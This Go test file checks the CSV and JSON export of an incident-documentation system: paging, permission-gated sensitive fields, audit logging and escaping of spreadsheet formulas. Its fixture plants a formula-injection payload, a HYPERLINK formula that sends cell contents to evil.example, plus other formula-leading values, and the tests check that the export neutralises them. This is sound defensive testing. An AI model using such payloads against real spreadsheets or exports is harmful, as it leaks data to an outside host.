package api_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/faro-project/faro/internal/audit"
	"github.com/faro-project/faro/internal/auth"
	"github.com/faro-project/faro/internal/incident"
)

// csvHeader is the contract of the CSV export: one row of plain column
// names (no HXL hashtag row), sensitive columns only on request.
var (
	csvHeader = []string{"id", "ref", "status", "type", "date", "time", "date_precision", "country", "adm1", "adm2",
		"team_id", "group_size", "dead", "missing", "survivors", "minors", "women", "men", "officers", "origins",
		"units", "uniforms", "vehicles", "violence", "asylum_asked", "interpreter_present", "source_quality",
		"verification", "verified_at", "tags", "consent_scope", "created_at", "updated_at"}
	csvSensitive = []string{"place", "latitude", "longitude", "position_precision_m", "sources", "pseudonyms", "narratives"}
)

// exportFixture is a Faro holding a few hundred records, more than one
// batch of an export.
type exportFixture struct {
	*env
	author, reviewer, coordinator *auth.User
	rTok, cTok                    string
	team                          int64
	planted                       *incident.Incident
}

func newExportFixture(t *testing.T, e *env, n int) *exportFixture {
	f := &exportFixture{env: e}
	f.author = e.user("author", auth.Documenter)
	f.reviewer = e.user("rosa", auth.Reviewer)
	f.coordinator = e.user("coco", auth.Coordinator)
	f.rTok, f.cTok = e.token(f.reviewer, auth.Reviewer), e.token(f.coordinator, auth.Coordinator)
	var err error
	if f.team, err = e.Teams.Create(audit.WithActor(e.ctx, f.coordinator.ID), "north"); err != nil {
		t.Fatal(err)
	}
	countries := []string{"HR", "GR", "BA", "HR", "PL"}
	types := []string{"pushback", "violence", "chain_pushback"}
	base := time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)
	for i := range n {
		inc := &incident.Incident{Status: incident.StatusSubmitted, Country: countries[i%len(countries)], Type: types[i%len(types)],
			// Many share a day: the export's paging must break ties as the list does.
			OccurredAt: base.AddDate(0, 0, i/3), DatePrecision: incident.PrecisionDay,
			Violence: []string{[]string{"beating", "kicking"}[i%2]}}
		if i%4 == 0 {
			inc.TeamID = f.team
		}
		if i%5 == 0 {
			inc.Counts.Dead = ptr(i % 3)
		}
		e.incident(f.author, inc, nil)
	}
	// One record with text a spreadsheet would run, and secrets.
	f.planted = e.incident(f.author, &incident.Incident{Status: incident.StatusSubmitted, Country: "HR", Type: "pushback",
		Units: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Adm1: "+41 22", Adm2: "-1+1", Vehicles: "@SUM(A1:A9)", Uniforms: "\tgrey",
		Place: "=1+1 behind the bakery", Point: &incident.Point{Lat: -33.45, Lon: 18.5}, PointPrecisionM: 1000, Sources: "secret source",
		OccurredAt: time.Date(2025, 2, 1, 0, 0, 0, 0, time.UTC), DatePrecision: incident.PrecisionDay},
		&incident.Testimony{Narrative: "line one\r\nline two", Pseudonym: "=B.", WitnessContact: "witness phone 0123", ConsentScope: incident.ConsentInternal})
	return f
}

// TestEachMatchesList: the export's walk gives exactly the list's records,
// in the list's order, for every sort, filters and viewers.
func TestEachMatchesList(t *testing.T) {
	eachEngine(t, func(t *testing.T, e *env) {
		f := newExportFixture(t, e, 430)
		member := e.user("member", auth.Viewer)
		if err := e.Teams.SetMember(audit.WithActor(e.ctx, f.coordinator.ID), f.team, member.ID, true); err != nil {
			t.Fatal(err)
		}
		viewers := map[string]*auth.User{"coordinator": f.coordinator, "reviewer": f.reviewer, "team member": member, "author": f.author}
		filters := []incident.Filter{
			{}, {Sort: "occurred_asc"}, {Sort: "updated"}, {Sort: "ref"}, {Sort: "bogus"},
			{Country: "HR"}, {Type: "violence", Violence: "kicking"}, {TeamID: f.team},
			{From: time.Date(2024, 3, 1, 0, 0, 0, 0, time.UTC), To: time.Date(2024, 4, 1, 0, 0, 0, 0, time.UTC), Sort: "occurred_asc"},
			{Status: incident.StatusDraft},
			// Free text: encrypted words only for those who may read them.
			{Query: "bakery"}, {Query: "grey"}, {Query: "nothing-matches-this"},
		}
		for name, u := range viewers {
			v, err := incident.ViewerFor(e.ctx, e.Teams, u)
			if err != nil {
				t.Fatal(err)
			}
			for _, flt := range filters {
				var listed []int64
				for page := 1; ; page++ {
					flt.Page, flt.PerPage = page, 200
					items, total, err := e.Incidents.List(e.ctx, flt, v)
					if err != nil {
						t.Fatal(err)
					}
					for _, s := range items {
						listed = append(listed, s.ID)
					}
					if page*200 >= total {
						break
					}
				}
				var walked []int64
				err := e.Incidents.Each(e.ctx, flt, v, false, func(inc *incident.Incident) error {
					walked = append(walked, inc.ID)
					if inc.Place != "" || inc.Sources != "" || inc.Point != nil || inc.Testimonies != nil {
						t.Errorf("encrypted fields in a walk without sensitive")
					}
					return nil
				})
				if err != nil {
					t.Fatal(err)
				}
				if flt.Query == "bakery" && (len(walked) == 1) != (v.Sensitive || u == f.author) {
					t.Errorf("%s: search of an encrypted word finds %d records", name, len(walked))
				}
				if !slices.Equal(listed, walked) {
					t.Errorf("%s, filter %+v: walk gives %d records, list %d (or another order)", name, flt, len(walked), len(listed))
				}
			}
		}
	})
}

func readCSV(t *testing.T, r *resp) [][]string {
	t.Helper()
	if ct := r.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
		t.Fatalf("export Content-Type %q\n%s", ct, shorten(r.Body))
	}
	if cd := r.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment;") {
		t.Errorf("Content-Disposition %q", cd)
	}
	body, bom := bytes.CutPrefix(r.Body, []byte("\ufeff"))
	if api := strings.HasPrefix(r.Request.URL.Path, "/api/"); bom == api {
		t.Errorf("%s: byte order mark %v; want one only for the page's export, which people open in spreadsheets", r.Request.URL.Path, bom)
	}
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("export is not CSV: %v", err)
	}
	return rows
}

func column(header []string, name string) int { return slices.Index(header, name) }

// TestExportCSV: the export holds the whole filtered list, no encrypted
// field without the permission, neutralised formulas, and one audit entry
// per export that names the filter but not the words searched.
func TestExportCSV(t *testing.T) {
	eachEngine(t, func(t *testing.T, e *env) {
		f := newExportFixture(t, e, 230)
		before := e.auditCount(t, audit.Export, "incident_list", "")
		r := e.do(t, req{method: "GET", path: "/api/incidents/export.csv?country=HR", token: f.rTok})
		if r.StatusCode != http.StatusOK {
			t.Fatalf("export: %d %s", r.StatusCode, r.Body)
		}
		rows := readCSV(t, r)
		if !slices.Equal(rows[0], csvHeader) {
			t.Errorf("header %v\nwant   %v", rows[0], csvHeader)
		}
		v, _ := incident.ViewerFor(e.ctx, e.Teams, f.reviewer)
		_, total, _ := e.Incidents.List(e.ctx, incident.Filter{Country: "HR"}, v)
		if len(rows)-1 != total || total <= 50 {
			t.Errorf("%d rows, the list has %d", len(rows)-1, total)
		}
		for _, secret := range []string{"bakery", "secret source", "line one", "witness phone", "-33.45"} {
			if bytes.Contains(r.Body, []byte(secret)) {
				t.Errorf("export without permission holds %q", secret)
			}
		}
		var planted []string
		for _, row := range rows[1:] {
			if row[0] == fmt.Sprint(f.planted.ID) {
				planted = row
			}
			for i, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("column %s starts with a formula character: %q", rows[0][i], cell)
				}
			}
		}
		if planted == nil {
			t.Fatal("planted record not exported")
		}
		for col, want := range map[string]string{"units": `'=HYPERLINK("http://evil.example/?"&A1,"click")`, "adm1": "'+41 22",
			"adm2": "'-1+1", "vehicles": "'@SUM(A1:A9)", "uniforms": "'\tgrey", "dead": "", "date": "2025-02-01", "country": "HR"} {
			if got := planted[column(rows[0], col)]; got != want {
				t.Errorf("%s = %q, want %q", col, got, want)
			}
		}
		if n := e.auditCount(t, audit.Export, "incident_list", ""); n != before+1 {
			t.Errorf("%d export entries, want %d", n, before+1)
		}
		if n := e.auditCount(t, audit.Export, "incident_list", "csv country=HR"); n != 1 {
			t.Errorf("export entry does not describe the filter (%d)", n)
		}

		// Sensitive fields: refused to a reviewer, given to a coordinator.
		r = e.do(t, req{method: "GET", path: "/api/incidents/export.csv?sensitive=1", token: f.rTok})
		if r.StatusCode != http.StatusForbidden {
			t.Errorf("reviewer's sensitive export: %d", r.StatusCode)
		} else {
			r.problem(t)
		}
		r = e.do(t, req{method: "GET", path: "/api/incidents/export.csv?sensitive=1&q=bakery", token: f.cTok})
		rows = readCSV(t, r)
		if !slices.Equal(rows[0], append(slices.Clone(csvHeader), csvSensitive...)) {
			t.Errorf("sensitive header %v", rows[0])
		}
		if len(rows) != 2 || rows[1][0] != fmt.Sprint(f.planted.ID) {
			t.Fatalf("search export: %d rows", len(rows))
		}
		for col, want := range map[string]string{"place": "'=1+1 behind the bakery", "latitude": "-33.45", "longitude": "18.5",
			"sources": "secret source", "pseudonyms": "'=B.", "narratives": "line one\nline two", "position_precision_m": "1000"} {
			if got := rows[1][column(rows[0], col)]; got != want {
				t.Errorf("sensitive %s = %q, want %q", col, got, want)
			}
		}
		if bytes.Contains(r.Body, []byte("witness phone")) {
			t.Errorf("an export holds a witness's contact")
		}
		if n := e.auditCount(t, audit.Export, "incident_list", "csv q=(text) sensitive"); n != 1 {
			t.Errorf("sensitive export entry: %d", n)
		}
		var ids []string
		rs, _ := e.DB.Query(e.ctx, "SELECT record_id FROM audit_log WHERE action = 'export'")
		for rs.Next() {
			var s string
			rs.Scan(&s)
			ids = append(ids, s)
		}
		rs.Close()
		if strings.Contains(strings.Join(ids, "|"), "bakery") {
			t.Errorf("the audit log holds the words searched: %v", ids)
		}
		// Free text in a code filter does not reach the log either.
		e.do(t, req{method: "GET", path: "/api/incidents/export.csv?country=" + "Ana%20Smith", token: f.rTok})
		if n := e.auditCount(t, audit.Export, "incident_list", "csv country=?"); n != 1 {
			t.Errorf("free text in a filter code: %d entries with country=?", n)
		}
		if r := e.do(t, req{method: "GET", path: "/api/incidents/export.csv?sensitive=yes", token: f.cTok}); r.StatusCode != http.StatusUnprocessableEntity {
			t.Errorf("sensitive=yes: %d", r.StatusCode)
		}
	})
}

// TestExportJSON: the JSON export streams the same records, encrypted
// fields only on request and permission, testimonies without contacts.
func TestExportJSON(t *testing.T) {
	e := newEnv(t, "sqlite")
	f := newExportFixture(t, e, 20)
	r := e.do(t, req{method: "GET", path: "/api/incidents/export.json?sort=ref", token: f.rTok})
	var out struct {
		Sensitive bool             `json:"sensitive"`
		Items     []map[string]any `json:"items"`
	}
	if err := json.Unmarshal(r.Body, &out); err != nil {
		t.Fatalf("export is not JSON: %v", err)
	}
	v, _ := incident.ViewerFor(e.ctx, e.Teams, f.reviewer)
	_, total, _ := e.Incidents.List(e.ctx, incident.Filter{}, v)
	if out.Sensitive || len(out.Items) != total || total < 10 {
		t.Errorf("sensitive %v, %d items, want %d", out.Sensitive, len(out.Items), total)
	}
	for _, it := range out.Items {
		if it["sensitive"] != nil || it["testimonies"] != nil {
			t.Errorf("item with encrypted fields: %v", it)
		}
	}
	r = e.do(t, req{method: "GET", path: "/api/incidents/export.json?sensitive=1&country=HR&type=pushback", token: f.cTok})
	if err := json.Unmarshal(r.Body, &out); err != nil {
		t.Fatal(err)
	}
	found := false
	for _, it := range out.Items {
		if it["id"] == float64(f.planted.ID) {
			found = true
			ts := it["testimonies"].([]any)[0].(map[string]any)["sensitive"].(map[string]any)
			if ts["narrative"] != "line one\r\nline two" || ts["witness_contact"] != nil {
				t.Errorf("testimony in the export: %v", ts)
			}
			if it["sensitive"].(map[string]any)["place"] != "=1+1 behind the bakery" {
				t.Errorf("place: %v", it["sensitive"])
			}
		}
	}
	if !out.Sensitive || !found {
		t.Errorf("sensitive export: %v, planted found %v", out.Sensitive, found)
	}
	if n := e.auditCount(t, audit.Export, "incident_list", ""); n != 2 {
		t.Errorf("%d export entries, want 2", n)
	}
}

// TestExportPages: people export from the list page, with their session;
// the buttons are there for reviewers, the sensitive box for coordinators.
func TestExportPages(t *testing.T) {
	e := newEnv(t, "sqlite")
	f := newExportFixture(t, e, 5)
	session := func(u *auth.User) http.Header {
		tok, err := e.Auth.NewSessionFor(e.ctx, u, "test")
		if err != nil {
			t.Fatal(err)
		}
		return http.Header{"Cookie": {"faro_session=" + tok}}
	}
	rev, coord, doc := session(f.reviewer), session(f.coordinator), session(f.author)
	page := e.do(t, req{method: "GET", path: "/incidents?country=HR&q=x&page=2", header: rev})
	body := string(page.Body)
	if !strings.Contains(body, `action="/incidents/export.csv"`) || !strings.Contains(body, `formaction="/incidents/export.json"`) ||
		!strings.Contains(body, `<input type="hidden" name="country" value="HR">`) || strings.Contains(body, `name="page" value`) {
		t.Errorf("reviewer's list page lacks the export form with the filters")
	}
	if strings.Contains(body, `name="sensitive"`) {
		t.Errorf("reviewer is offered a sensitive export")
	}
	if b := string(e.do(t, req{method: "GET", path: "/incidents", header: coord}).Body); !strings.Contains(b, `name="sensitive"`) {
		t.Errorf("coordinator is not offered a sensitive export")
	}
	if b := string(e.do(t, req{method: "GET", path: "/incidents", header: doc}).Body); strings.Contains(b, "export.csv") {
		t.Errorf("documenter is offered an export")
	}
	r := e.do(t, req{method: "GET", path: "/incidents/export.csv?country=HR", header: rev})
	if rows := readCSV(t, r); r.StatusCode != 200 || !slices.Equal(rows[0], csvHeader) || len(rows) < 2 {
		t.Errorf("page export: %d, %d rows", r.StatusCode, len(rows))
	}
	if r := e.do(t, req{method: "GET", path: "/incidents/export.csv?sensitive=1", header: rev}); r.StatusCode != http.StatusForbidden ||
		!strings.HasPrefix(r.Header.Get("Content-Type"), "text/html") {
		t.Errorf("reviewer's sensitive page export: %d %s", r.StatusCode, r.Header.Get("Content-Type"))
	}
	if r := e.do(t, req{method: "GET", path: "/incidents/export.json?sensitive=1", header: coord}); r.StatusCode != 200 || !bytes.Contains(r.Body, []byte("bakery")) {
		t.Errorf("coordinator's sensitive page export: %d", r.StatusCode)
	}
	if r := e.do(t, req{method: "GET", path: "/incidents/export.csv", header: doc}); r.StatusCode != http.StatusForbidden {
		t.Errorf("documenter's export: %d", r.StatusCode)
	}
	if n := e.auditCount(t, audit.Export, "incident_list", ""); n != 2 {
		t.Errorf("%d export entries, want 2", n)
	}
}
